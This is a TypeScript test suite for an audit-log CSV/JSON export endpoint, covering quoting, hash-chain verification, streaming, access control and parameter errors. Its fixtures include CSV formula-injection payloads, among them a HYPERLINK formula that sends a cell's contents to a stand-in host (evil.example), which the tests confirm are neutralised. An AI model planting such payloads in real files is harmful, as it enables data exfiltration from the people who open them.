/**
 * GET /api/v1/audit/export over real HTTP: CSV (RFC 4180, formulas neutralised) and JSON for a
 * filter, with every field the chain's hashes cover, so an export verifies offline; the body is
 * streamed (the server waits for a reader that does not read) and reads at most one batch ahead of
 * what the client has taken, whatever the number of events; the export is itself audited; and it is
 * for those who may read the audit log, with 400s that name the parameter.
 */
import { Writable } from "node:stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { appendSyntheticEvents } from "../../bench/audit.ts";
import type { Actor } from "../../server/audit/actor.ts";
import { GENESIS_HASH, hashEvent, toStoredJson, type ChainedFields } from "../../server/audit/chain.ts";
import { CSV_HEADER, EXPORT_COLUMNS, streamAuditExport } from "../../server/audit/export.ts";
import { sessionReader } from "../../server/audit/query.ts";
import { recordAudit, type AuditEntry } from "../../server/audit/record.ts";
import { startTestPanel, type TestPanel, type TestUser } from "../helpers/panel.ts";
import { waitFor } from "../helpers/wait.ts";

/** RFC 4180, strictly: records end with CRLF, a quote appears only around a field or doubled inside one. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
        if (![",", "\r", undefined].includes(text[i + 1]))
          throw new Error(`a quoted field continues after its closing quote at ${i}`);
      } else field += c;
    } else if (c === '"') {
      if (field !== "") throw new Error(`a quote inside an unquoted field at ${i}`);
      quoted = wasQuoted = true;
    } else if (c === ",") {
      row.push(field);
      field = "";
      wasQuoted = false;
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      wasQuoted = false;
      i++;
    } else if (c === "\r" || c === "\n") {
      throw new Error(`a line break outside quotes that is not CRLF at ${i}`);
    } else field += c;
  }
  if (quoted || field !== "" || row.length > 0 || wasQuoted) throw new Error("the last record does not end with CRLF");
  return rows;
}

const TRICKY_ACTOR: Actor = {
  userId: '=HYPERLINK("http://evil.example/?x="&A1)',
  email: "+attacker@example.test",
  roles: ["auditor", "-admin"],
  ip: "-1.2.3.4",
  traceId: "@trace",
};
const TRICKY: AuditEntry[] = [
  {
    action: "csv.tricky",
    entityType: "Thing",
    entityId: "=SUM(A1:A9)",
    after: { note: 'comma, "quote" and\nnewline', formula: "=1+1" },
  },
  { action: "csv.tricky", entityType: "Thing", entityId: "\tTAB then text", before: -42, after: "@SUM(1)" },
  {
    action: "csv.tricky",
    entityType: "Thing",
    entityId: "plain, with comma",
    after: { unicode: "Grüße 😀", cr: "a\rb" },
  },
];

let t: TestPanel;
let auditor: TestUser;
let viewer: TestUser;
let admin: TestUser;
const tricky: { seq: number; hash: string }[] = [];

const exportUrl = (params: Record<string, string>) =>
  `${t.url}/api/v1/audit/export?${new URLSearchParams(params).toString()}`;
const get = (params: Record<string, string>, cookie?: string) =>
  fetch(exportUrl(params), { headers: cookie ? { Cookie: cookie } : {} });
const head = async () => Number((await t.prisma.auditChainHead.findUniqueOrThrow({ where: { id: 1 } })).seq);
const eventsAfter = (seq: number) =>
  t.prisma.auditEvent.findMany({ where: { seq: { gt: BigInt(seq) } }, orderBy: { seq: "asc" } });

beforeAll(async () => {
  t = await startTestPanel();
  auditor = await t.createUser(["auditor"], "Ada Auditor");
  viewer = await t.createUser(["viewer"]);
  admin = await t.createUser(["admin"]);
  for (const entry of TRICKY) tricky.push(await t.prisma.$transaction((tx) => recordAudit(tx, TRICKY_ACTOR, entry)));
});
afterAll(() => t?.close());

describe("the CSV export", () => {
  it("has a header, one CRLF-terminated record per event (oldest first), quoting per RFC 4180 and formulas neutralised", async () => {
    const response = await get({ format: "csv", action: "csv." }, auditor.cookie);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="greenlight-audit-\d{8}T\d{6}Z\.csv"$/,
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    const text = await response.text();
    expect(text.startsWith(CSV_HEADER)).toBe(true);
    const [header, ...records] = parseCsv(text);
    expect(header).toEqual([...EXPORT_COLUMNS]);
    expect(records.map((r) => Number(r[0]))).toEqual(tricky.map((w) => w.seq));
    const cell = (record: string[], column: (typeof EXPORT_COLUMNS)[number]) => record[EXPORT_COLUMNS.indexOf(column)];

    const [first, second, third] = records as [string[], string[], string[]];
    // A leading = + - @ or tab gets an apostrophe; the value is otherwise intact.
    expect(cell(first, "actorId")).toBe(`'${TRICKY_ACTOR.userId}`);
    expect(cell(first, "actorEmail")).toBe("'+attacker@example.test");
    expect(cell(first, "ip")).toBe("'-1.2.3.4");
    expect(cell(first, "traceId")).toBe("'@trace");
    expect(cell(first, "entityId")).toBe("'=SUM(A1:A9)");
    expect(cell(second, "entityId")).toBe("'\tTAB then text");
    expect(cell(second, "before")).toBe("'-42");
    // A JSON string starts with its quote: not a formula.
    expect(cell(second, "after")).toBe(`"@SUM(1)"`);
    // Arrays and snapshots are JSON; quotes, commas and line breaks inside survive the quoting.
    expect(JSON.parse(cell(first, "actorRoles")!)).toEqual(["auditor", "-admin"]);
    expect(JSON.parse(cell(first, "after")!)).toEqual(TRICKY[0]!.after);
    expect(cell(third, "entityId")).toBe("plain, with comma");
    expect(JSON.parse(cell(third, "after")!)).toEqual({ unicode: "Grüße 😀", cr: "a\rb" });
    expect(cell(first, "before")).toBe("");
    expect(cell(first, "hash")).toBe(tricky[0]!.hash);
    // Raw, the dangerous cells are quoted where they must be and never start with a bare formula.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1)"`);
    for (const record of records) for (const value of record) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe("the JSON export", () => {
  it("is an array of events (oldest first) with every column, snapshots as JSON", async () => {
    const response = await get({ format: "json", action: "csv.tricky" }, auditor.cookie);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/filename="greenlight-audit-\d{8}T\d{6}Z\.json"/);
    const body = (await response.json()) as Record<string, unknown>[];
    const rows = await t.prisma.auditEvent.findMany({ where: { action: "csv.tricky" }, orderBy: { seq: "asc" } });
    expect(body).toEqual(
      rows.map((r) => ({
        seq: Number(r.seq),
        at: r.at.toISOString(),
        actorId: r.actorId,
        actorEmail: r.actorEmail,
        actorRoles: r.actorRoles,
        action: r.action,
        entityType: r.entityType,
        entityId: r.entityId,
        serviceId: r.serviceId,
        environmentId: r.environmentId,
        before: r.before,
        after: r.after,
        ip: r.ip,
        traceId: r.traceId,
        prevHash: r.prevHash,
        hash: r.hash,
      })),
    );
    expect(body[1]).toMatchObject({ before: -42, after: "@SUM(1)", entityId: "\tTAB then text" });
  });

  it("of the whole log verifies offline: each event matches its hash and links to the one before", async () => {
    const body = (await (await get({ format: "json" }, auditor.cookie)).json()) as (Record<string, unknown> & {
      seq: number;
      at: string;
      prevHash: string;
      hash: string;
    })[];
    expect(body.length).toBeGreaterThan(5);
    let prev = GENESIS_HASH;
    for (const [i, e] of body.entries()) {
      expect(e.seq).toBe(i + 1);
      expect(e.prevHash).toBe(prev);
      const recomputed = hashEvent(e.prevHash, {
        ...(e as unknown as ChainedFields),
        at: new Date(e.at),
        before: toStoredJson(e.before),
        after: toStoredJson(e.after),
      });
      expect(recomputed, `event ${e.seq}`).toBe(e.hash);
      prev = e.hash;
    }
  });

  it("of a filter that matches nothing is an empty array, and a CSV of it just the header", async () => {
    expect(await (await get({ format: "json", action: "no.such." }, auditor.cookie)).json()).toEqual([]);
    expect(await (await get({ format: "csv", text: "no such words anywhere" }, auditor.cookie)).text()).toBe(
      CSV_HEADER,
    );
  });
});

describe("streaming", () => {
  let bulk: { firstSeq: number; lastSeq: number };
  beforeAll(async () => {
    bulk = await appendSyntheticEvents(t.prisma, 8000);
  });

  // That the server waits for a slow reader is proven without timing in the next test (a
  // destination that takes rows on demand); here, over real HTTP, that the body streams in chunks.
  it("sends the body in chunks as it reads", async () => {
    const before = await head();
    const response = await get({ format: "json" }, auditor.cookie);
    expect(response.status).toBe(200);
    expect(response.headers.get("transfer-encoding")).toBe("chunked");
    expect(response.headers.get("content-length")).toBeNull();
    const reader = response.body!.getReader();
    const decoder = new TextDecoder();
    let text = "";
    let chunks = 0;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      text += decoder.decode(value, { stream: true });
      chunks++;
    }
    expect(chunks).toBeGreaterThan(3);
    const body = JSON.parse(text) as { seq: number }[];
    expect(body.length).toBe(before);
    expect(body[body.length - 1]!.seq).toBe(before);
    const audited = await waitFor(
      async () => (await eventsAfter(before)).find((e) => e.action === "audit.exported"),
      "the export's audit event",
    );
    expect(audited.after).toMatchObject({ rows: before, completed: true });
    expect(bulk.lastSeq).toBeLessThanOrEqual(before);
  });

  it("reads at most one batch ahead of what the destination has taken, however many events there are", async () => {
    const session = await t.panel.services.db.openSession();
    try {
      const queries: number[] = [];
      const returned: number[] = [];
      const counting = sessionReader(session);
      const reader = {
        rows: async <T>(query: Parameters<typeof counting.rows>[0]) => {
          const rows = await counting.rows<T>(query);
          if (/LIMIT/.test(query.text) && /ORDER BY "AuditEvent"\."seq" ASC/.test(query.text))
            returned.push(rows.length);
          return rows;
        },
      };
      // A destination that takes the header and the first batch, then stops taking anything.
      const held: (() => void)[] = [];
      let taken = 0;
      const sink = new Writable({
        highWaterMark: 1,
        write(_chunk, _encoding, callback) {
          taken++;
          if (taken <= 2) callback();
          else held.push(() => callback());
        },
      });
      const batchSize = 500;
      const done = streamAuditExport(reader, {}, "csv", sink, {
        batchSize,
        onBatch: ({ index }) => queries.push(index),
      });
      // Quiet when the third batch (the read-ahead) has come back and the export listens for the destination
      // to drain: from then on only the destination can move it. An export that ignored back-pressure would
      // already have asked for a fourth batch by the time this holds.
      await waitFor(
        () => held.length === 1 && returned.length === 3 && sink.listenerCount("drain") > 0,
        "the export to wait for the destination",
      );
      // Batch 1 taken, batch 2 being written, batch 3 read ahead — and nothing more, for 8,000+ events.
      expect(queries).toEqual([0, 1, 2]);
      expect(taken).toBe(3);
      // Let it go: the rest follows, one batch per query, never more than a batch at a time.
      const release = setInterval(() => held.splice(0).forEach((f) => f()), 1);
      const result = await done.finally(() => clearInterval(release));
      const total = await head();
      expect(result).toMatchObject({ rows: total, completed: true, headSeq: total });
      expect(Math.max(...returned)).toBe(batchSize);
      expect(returned.reduce((a, b) => a + b, 0)).toBe(total);
      expect(queries.length).toBe(Math.ceil((total + 1) / batchSize));
    } finally {
      await session.close();
    }
  });

  it("stops reading when the destination goes away, and says the export did not complete", async () => {
    const session = await t.panel.services.db.openSession();
    try {
      let batches = 0;
      let written = 0;
      const sink = new Writable({
        highWaterMark: 1,
        write(_chunk, _encoding, callback) {
          written++;
          if (written === 3) setImmediate(() => sink.destroy());
          else callback();
        },
      });
      const result = await streamAuditExport(sessionReader(session), {}, "json", sink, {
        batchSize: 500,
        onBatch: () => batches++,
      });
      expect(result.completed).toBe(false);
      expect(result.rows).toBeLessThan(await head());
      expect(batches).toBeLessThanOrEqual(3);
    } finally {
      await session.close();
    }
  });
});

describe("the export on the record", () => {
  it("is audited after it is sent: who, the filter, the format, how many events, and that it completed", async () => {
    const before = await head();
    const from = new Date(Date.now() - 3600_000).toISOString();
    const response = await get({ format: "csv", action: "csv.", from, text: "tricky" }, auditor.cookie);
    const records = parseCsv(await response.text()).length - 1;
    expect(records).toBe(3);
    const events = await waitFor(async () => {
      const found = await eventsAfter(before);
      return found.length > 0 ? found : null;
    }, "the audit event");
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      action: "audit.exported",
      entityType: "AuditLog",
      actorId: auditor.id,
      actorEmail: auditor.email,
      actorRoles: ["auditor"],
      ip: "127.0.0.1",
      after: {
        format: "csv",
        filter: { action: "csv.", from, text: "tricky" },
        rows: 3,
        completed: true,
        throughSeq: before,
      },
    });
    expect(events[0]!.traceId).toBe(response.headers.get("x-request-id"));
  });
});

describe("who may export", () => {
  it("nobody without a session (401), and nothing is exported or audited", async () => {
    const before = await head();
    const response = await get({ format: "csv" });
    expect(response.status).toBe(401);
    expect(await response.json()).toEqual({ error: "Sign in to continue" });
    expect(await head()).toBe(before);
  });

  it("not a viewer (403, audited as auth.forbidden like a refused procedure)", async () => {
    const before = await head();
    const response = await get({ format: "json" }, viewer.cookie);
    expect(response.status).toBe(403);
    expect(((await response.json()) as { error: string }).error).toBe(
      "GET /api/v1/audit/export is for auditor, admin; you are viewer",
    );
    expect(
      (await eventsAfter(before)).map((e) => ({
        action: e.action,
        entityType: e.entityType,
        entityId: e.entityId,
        actorId: e.actorId,
      })),
    ).toEqual([
      { action: "auth.forbidden", entityType: "Route", entityId: "GET /api/v1/audit/export", actorId: viewer.id },
    ]);
  });

  it("an administrator, like audit.list", async () => {
    const response = await get({ format: "json", action: "csv.tricky" }, admin.cookie);
    expect(response.status).toBe(200);
    expect(((await response.json()) as unknown[]).length).toBe(3);
  });
});

describe("parameters", () => {
  it.each([
    [{ format: "xml" }, "format", 'Format: must be csv or json (got "xml")'],
    [{ from: "yesterday" }, "from", "From: must be a date"],
    [{ from: "2026-02-01", to: "2026-01-01" }, "from", "From: must not be after 'to'"],
    [{ serviceId: "payments" }, "serviceId", "Service: must be a service id"],
    [{ environmentId: "prod" }, "environmentId", "Environment: must be an environment id"],
    [{ text: "x".repeat(201) }, "text", "Text: must be at most 200 characters"],
    [
      { service: "payments" },
      "service",
      'The export has no parameter "service" (known: format, from, to, serviceId, environmentId, actor, action, entityType, entityId, text)',
    ],
    [{ actor: "a\u0000b" }, "actor", "Actor: must not contain a NUL character"],
  ])("%j is refused with 400 naming the parameter, and nothing is exported", async (params, field, message) => {
    const before = await head();
    const response = await get(params, auditor.cookie);
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ error: message, field });
    expect(await head()).toBe(before);
  });

  it("a parameter given twice is refused rather than guessed", async () => {
    const response = await fetch(`${t.url}/api/v1/audit/export?actor=a@example.test&actor=b@example.test`, {
      headers: { Cookie: auditor.cookie },
    });
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ error: "Actor: give it once", field: "actor" });
  });

  it("empty parameters (an untouched form) are no filter", async () => {
    const response = await get(
      { format: "json", from: "", to: "", serviceId: "", environmentId: "", actor: "", action: "csv.tricky", text: "" },
      auditor.cookie,
    );
    expect(response.status).toBe(200);
    expect(((await response.json()) as unknown[]).length).toBe(3);
  });
});
